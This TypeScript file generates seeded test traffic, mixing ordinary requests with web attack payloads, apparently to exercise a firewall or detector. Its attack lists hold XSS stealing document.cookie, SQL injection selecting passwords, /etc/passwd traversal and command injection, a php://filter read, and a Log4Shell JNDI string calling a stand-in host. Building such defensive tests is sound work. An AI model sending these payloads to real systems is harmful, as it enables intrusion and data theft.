/** Seeded traffic for a zone: ordinary requests, attacks, and requests that look like attacks, on few paths. */
import type { Random } from '../faults/random.ts';

export interface SentRequest {
  readonly method: string;
  readonly path: string;
  readonly headers: Readonly<Record<string, string>>;
  readonly body?: string;
}

const paths = [
  '/',
  '/shop',
  '/static/app.js',
  '/api/items',
  '/search',
  '/forum/post',
  '/admin/tools',
  '/upload/a',
];
const ordinary = [
  'q=shoes&page=2',
  'id=17',
  'sort=price',
  'name=O%27Brien',
  'note=select+a+table+from+the+list',
  '',
];
const attacks = [
  'redirect:https://elsewhere.example/',
  'q=%3Cscript%3Ealert(document.cookie)%3C/script%3E',
  'id=1%20union%20select%20password%20from%20users--',
  'file=../../../../etc/passwd',
  'q=%3Cscript%3Ealert(1)%3C/script%3E&file=../../../../etc/passwd',
  'x=$%7Bjndi:ldap://elsewhere.example/a%7D',
  'cmd=;cat%20/etc/passwd',
  'id=1%27%20or%20%271%27=%271',
  'page=php://filter/convert.base64-encode/resource=index.php',
  'q=sleep(5)',
];
const agents = ['Mozilla/5.0 (X11; Linux x86_64) Firefox/140.0', 'curl/8.9', 'monitor/1.0', 'sqlmap/1.8', ''];
const bodies = [
  'name=Jane&text=hello',
  'text=%3Cscript%3Ealert(1)%3C/script%3E',
  'q=1%20union%20select%20password%20from%20users--',
];

export function createTraffic(random: Random, count: number): SentRequest[] {
  return Array.from({ length: count }, () => createRequest(random));
}

function createRequest(random: Random): SentRequest {
  const query = random.chance(0.6)
    ? Array.from({ length: 1 + random.below(3) }, () => random.pick(attacks)).join('&')
    : random.pick(ordinary);
  const path = `${random.pick(paths)}${query === '' ? '' : `?${query}`}`;
  const agent = random.pick(agents);
  const headers = {
    ...(agent === '' ? {} : { 'User-Agent': agent }),
    Accept: '*/*',
    Connection: 'close',
    // Legacy scores had a higher threshold for requests of scripts.
    ...(random.chance(0.2) ? { 'X-Requested-With': 'XMLHttpRequest' } : {}),
  };
  if (!random.chance(0.2)) return { method: 'GET', path, headers };
  const body = random.pick(bodies);
  return {
    method: 'POST',
    path,
    headers: {
      ...headers,
      'Content-Type': 'application/x-www-form-urlencoded',
      'Content-Length': String(body.length),
    },
    body,
  };
}

/** In the form of recorded requests that a rehearsal reads. */
export function writeRecording(requests: readonly SentRequest[], host: string): string {
  return requests
    .map(({ method, path, headers, body }, index) =>
      JSON.stringify({
        time: new Date(Date.UTC(2026, 0, 1) + index * 1_000).toISOString(),
        ip: '127.0.0.1',
        method,
        url: `http://${host}${path}`,
        headers,
        body,
      }),
    )
    .join('\n');
}
